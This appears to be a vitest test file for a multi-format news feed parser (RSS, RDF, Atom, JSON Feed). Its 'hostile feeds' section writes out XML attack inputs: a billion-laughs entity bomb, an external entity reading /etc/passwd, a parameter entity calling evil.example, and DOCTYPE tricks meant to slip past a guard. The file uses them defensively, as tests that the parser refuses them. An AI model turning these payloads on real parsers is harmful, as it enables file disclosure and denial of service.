import { describe, expect, it } from 'vitest';
import { parseFeed } from '../src/parse.feed.ts';
import { itemsOf, onlyItem, reasonsOf, sample } from './sample.ts';

const rss = (item: string, channel = '') =>
  `<rss version="2.0"><channel><title>F</title>${channel}<item><title>T</title>${item}</item></channel></rss>`;

describe('RSS 2.0', () => {
  const [ferry, note, gone, nameless] = itemsOf(parseFeed(sample('rss-2.xml')));

  it('gives every field of the item: the text over the description, a group as one picture', () => {
    expect(ferry).toEqual({
      source: 'Northland & Islands',
      sourceId: 'post-17',
      format: 'feed',
      type: 'text',
      versionCreatedAt: '2026-03-01T09:30:00Z',
      pubStatus: 'usable',
      language: 'en-GB',
      headline: 'Ferry link opens & sails',
      standfirst: 'What it costs, and who was there.',
      body: [
        { kind: 'paragraph', html: 'The <b>ferry</b> left at dawn.' },
        {
          kind: 'figure',
          role: 'LEAD',
          caption: 'The boat at dawn',
          credit: 'Mo Lens',
          altText: 'Boat',
          picture: {
            url: 'https://news.example/img/boat.jpg?w=1500',
            mimeType: 'image/jpeg',
            width: 1500,
            height: 1000,
            copyright: 'Mo Lens 2026',
          },
        },
        { kind: 'paragraph', html: 'See <a href="https://news.example/2026/fares">the fares</a>.' },
        {
          kind: 'figure',
          role: 'GALLERY',
          caption: 'The pier',
          picture: { url: 'https://news.example/2026/pier.png' },
        },
      ],
      firstPublishedAt: '2026-03-01T08:00:00+01:00',
      publishedAt: '2026-03-01T08:00:00+01:00',
      updatedAt: '2026-03-01T09:30:00Z',
      bylines: [{ name: 'Jane Roe' }, { name: 'Richard Miles' }],
      topics: [
        { title: 'Ferries', kind: 'SUBJECT' },
        { title: 'medtop:20000342', kind: 'SUBJECT', mediaTopic: 'medtop:20000342' },
      ],
      keywords: ['ferry', 'islands'],
      copyright: 'Copyright Northland',
      url: 'https://news.example/2026/ferry',
    });
  });

  it('without a title its first words are the headline; without a guid its address is the id; a bad date is no date', () => {
    expect(note).toMatchObject({
      sourceId: 'https://news.example/2026/note',
      headline: 'A short note without a title, and with a wrong date.',
      body: [
        { kind: 'figure', role: 'LEAD', picture: { url: 'https://news.example/img/note.jpg', mimeType: 'image/jpeg' } },
        { kind: 'paragraph' },
      ],
    });
    for (const name of ['publishedAt', 'firstPublishedAt', 'versionCreatedAt', 'updatedAt'])
      expect(note).not.toHaveProperty(name);
  });

  it('an entry whose media status is deleted is killed', () => {
    expect(gone).toMatchObject({
      sourceId: 'https://news.example/?p=3',
      pubStatus: 'canceled',
      statusReason: 'wrong in its main point',
    });
  });

  it('an entry with neither id nor address has an id of its words, the same every time', () => {
    expect(nameless?.sourceId).toMatch(/^entry-[\da-f]{40}$/);
    expect(itemsOf(parseFeed(sample('rss-2.xml')))[3]?.sourceId).toBe(nameless?.sourceId);
  });

  it('a guid that is an address is an id all the same, and its page only where it does not say otherwise', () => {
    expect(onlyItem(parseFeed(rss('<guid>https://x.example/1</guid>')))).toMatchObject({
      sourceId: 'https://x.example/1',
      url: 'https://x.example/1',
    });
    expect(onlyItem(parseFeed(rss('<guid isPermaLink="false">https://x.example/1</guid>')))).not.toHaveProperty('url');
  });

  it('never takes an address for a person, nor a mail address for a name', () => {
    expect(onlyItem(parseFeed(rss('<author>desk@x.example (Jane Roe)</author><guid>1</guid>'))).bylines).toEqual([
      { name: 'Jane Roe' },
    ]);
    expect(onlyItem(parseFeed(rss('<author>desk@x.example</author><guid>1</guid>'))).bylines).toEqual([]);
  });
});

describe('older RSS', () => {
  it('0.91 with its DTD by name: relative addresses are meant from the channel', () => {
    expect(onlyItem(parseFeed(sample('rss-0.91.xml')))).toEqual({
      source: 'Old News',
      sourceId: 'http://old.example/1999/near.html',
      format: 'feed',
      type: 'text',
      pubStatus: 'usable',
      language: 'en-US',
      headline: 'Millennium near',
      body: [{ kind: 'paragraph', html: 'It is near.' }],
      bylines: [],
      topics: [],
      url: 'http://old.example/1999/near.html',
    });
  });

  it('1.0 is RDF: the address that an item is about is its id', () => {
    expect(onlyItem(parseFeed(sample('rss-1.rdf')))).toEqual({
      source: 'RDF News',
      sourceId: 'http://rdf.example/1',
      format: 'feed',
      type: 'text',
      pubStatus: 'usable',
      language: 'de',
      headline: 'Der Hafen öffnet',
      standfirst: 'Kurz.',
      body: [{ kind: 'paragraph', html: 'Das Schiff fuhr ab.' }],
      firstPublishedAt: '2026-02-03T04:05:06+01:00',
      publishedAt: '2026-02-03T04:05:06+01:00',
      bylines: [{ name: 'Anna Schmidt' }],
      topics: [{ title: 'Hafen', kind: 'SUBJECT' }],
      url: 'http://rdf.example/1.html',
    });
  });
});

describe('Atom', () => {
  const results = [...parseFeed(sample('atom.xml'))];
  const [port, plain, tombstone] = itemsOf(parseFeed(sample('atom.xml')));

  it('gives every field of the entry, addresses from xml:base, names from the feed where it has none', () => {
    expect(port).toEqual({
      source: 'חדשות & ים',
      sourceId: 'urn:uuid:1',
      format: 'feed',
      type: 'text',
      versionCreatedAt: '2026-03-02T08:00:00+02:00',
      pubStatus: 'usable',
      language: 'he',
      headline: 'הנמל נפתח',
      standfirst: 'הספינה הראשונה יצאה.',
      body: [
        { kind: 'figure', role: 'LEAD', picture: { url: 'https://atom.example/img/port.jpg', mimeType: 'image/jpeg' } },
        { kind: 'paragraph', html: 'שלום <a href="https://atom.example/news/2026/fares">עולם</a>' },
      ],
      firstPublishedAt: '2026-03-01T08:00:00+02:00',
      publishedAt: '2026-03-01T08:00:00+02:00',
      updatedAt: '2026-03-02T08:00:00+02:00',
      bylines: [{ name: 'דנה לוי' }],
      topics: [{ title: 'תחבורה ימית', kind: 'SUBJECT', mediaTopic: 'medtop:20000342' }],
      copyright: '© Atom Example',
      url: 'https://atom.example/news/2026/port',
    });
  });

  it('text that is text stays text, whatever it looks like', () => {
    expect(plain).toMatchObject({
      language: 'en-US',
      body: [
        { kind: 'paragraph', html: 'One paragraph &lt;b&gt;' },
        { kind: 'paragraph', html: 'Another' },
      ],
      bylines: [{ name: 'John Doe' }],
    });
  });

  it('a deleted entry is a kill of its id (RFC 6721)', () => {
    expect(results.at(-1)?.place).toBe('deleted entry 1');
    expect(tombstone).toEqual({
      source: 'חדשות & ים',
      sourceId: 'urn:uuid:gone',
      format: 'feed',
      type: 'text',
      versionCreatedAt: '2026-03-02T09:00:00Z',
      pubStatus: 'canceled',
      statusReason: 'Wrong in its main point',
      language: 'he',
      headline: 'urn:uuid:gone',
      body: [],
      bylines: [],
      topics: [],
    });
  });

  it('a text that writes about deleted entries kills nothing', () => {
    const text = sample('atom.xml').replace(/<at:deleted-entry.*<\/at:deleted-entry>/s, '');
    const written = text.replace(
      'One paragraph',
      '<![CDATA[<at:deleted-entry ref="urn:uuid:1"/>]]> <!-- <at:deleted-entry ref="urn:uuid:2"/> -->',
    );
    expect(itemsOf(parseFeed(written)).every(({ pubStatus }) => pubStatus === 'usable')).toBe(true);
  });
});

describe('JSON Feed', () => {
  it.each(['1', '1.1'])('version %s gives every field of the item', (version) => {
    const text = sample('feed-1.1.json').replace('version/1.1', `version/${version}`);
    expect(itemsOf(parseFeed(text))).toEqual([
      {
        source: 'JSON News',
        sourceId: '42',
        format: 'feed',
        type: 'text',
        versionCreatedAt: '2026-03-01T09:00:00+03:00',
        pubStatus: 'usable',
        language: 'ar',
        headline: 'افتتاح الميناء',
        standfirst: 'خلاصة',
        body: [
          { kind: 'paragraph', html: 'غادرت السفينة عند الفجر.' },
          { kind: 'figure', role: 'LEAD', altText: 'سفينة', picture: { url: 'https://json.example/i/ship.jpg' } },
          {
            kind: 'figure',
            role: 'GALLERY',
            caption: 'الرصيف',
            picture: { url: 'https://json.example/i/two.png', mimeType: 'image/png' },
          },
        ],
        firstPublishedAt: '2026-03-01T08:00:00+03:00',
        publishedAt: '2026-03-01T08:00:00+03:00',
        updatedAt: '2026-03-01T09:00:00+03:00',
        bylines: [{ name: 'سارة' }],
        topics: [{ title: 'ميناء', kind: 'SUBJECT' }],
        url: 'https://json.example/42',
      },
      {
        source: 'JSON News',
        sourceId: 'note-1',
        format: 'feed',
        type: 'text',
        pubStatus: 'usable',
        language: 'en',
        headline: 'A note of two lines.',
        body: [
          { kind: 'paragraph', html: 'A note of two lines.' },
          { kind: 'paragraph', html: 'The second &lt;line&gt;.' },
        ],
        bylines: [{ name: 'هيئة التحرير' }],
        topics: [],
      },
    ]);
  });
});

describe('hostile feeds', () => {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

  it.each([
    ['a billion laughs', `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}]>${rss('&l9;')}`],
    ['an external entity', `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rss('<guid>&x;</guid>')}`],
    ['a parameter entity', `<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>${rss('')}`],
    ['an entity outside of a DOCTYPE', `<!ENTITY x "y">${rss('')}`],
    ['a second DOCTYPE', `<!DOCTYPE rss><!doctype rss [ <!ENTITY a "b"> ]>${rss('')}`],
  ])('%s is refused before it is parsed', (_name, text) => {
    expect(reasonsOf(parseFeed(text))).toEqual([
      'feed is refused: it has a DOCTYPE that defines things, entities perhaps',
    ]);
  });

  it.each(['a="> <!-- "', "a='> <!-- '", 'a="> <![CDATA[ "'])(
    'entities that hide from the guard behind an attribute (%s) are not unfolded by the parser either',
    (attribute) => {
      const bomb = `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}]>`;
      const text = `<rss version="2.0" ${attribute}>${bomb}<channel><title>F</title><item><title>T &l9;</title><guid>1</guid></item></channel><x> --> ]]></x></rss>`;
      for (const parsed of parseFeed(text)) expect(JSON.stringify(parsed)).not.toContain('haha');
    },
  );

  it('elements 100 deep are read, and 101 deep refused', () => {
    // rss, channel, item and description are four.
    const nested = (depth: number) => rss(`<guid>1</guid><x>${'<a>'.repeat(depth - 4)}${'</a>'.repeat(depth - 4)}</x>`);
    expect(itemsOf(parseFeed(nested(100)))).toHaveLength(1);
    expect(reasonsOf(parseFeed(nested(101)))).toEqual(['feed is refused: its elements lie more than 100 deep']);
  });

  it('a text of 16 MB is read, and one of a character more refused', () => {
    const padded = (length: number) => rss('<guid>1</guid>').padEnd(length, ' ');
    expect(itemsOf(parseFeed(padded(16 * 1024 * 1024)))).toHaveLength(1);
    expect(reasonsOf(parseFeed(padded(16 * 1024 * 1024 + 1)))).toEqual(['feed is larger than 16 MB of text']);
  });

  it('careless HTML without end tags in a description is no depth', () => {
    const text = rss(`<guid>1</guid><description>${'<br><img src="x.jpg"><p>words'.repeat(2_000)}</description>`);
    expect(parseFeed(text).next().value).toMatchObject({ ok: true });
  });

  it.each([
    ['nothing', ''],
    ['a web page', '<!doctype html><html><body>Not here</body></html>'],
    ['half a feed', '<rss version="2.0"><channel><title>F</title><item><title>Unclo'],
    ['JSON that is no feed', '{"a": 1}'],
    ['NUL bytes', '\0\0\0'],
  ])('%s gives a reason and no exception', (_name, text) => {
    const [result] = [...parseFeed(text)];
    expect(result).toMatchObject({ ok: false, place: 'feed', reason: expect.stringContaining('cannot be read') });
  });
});
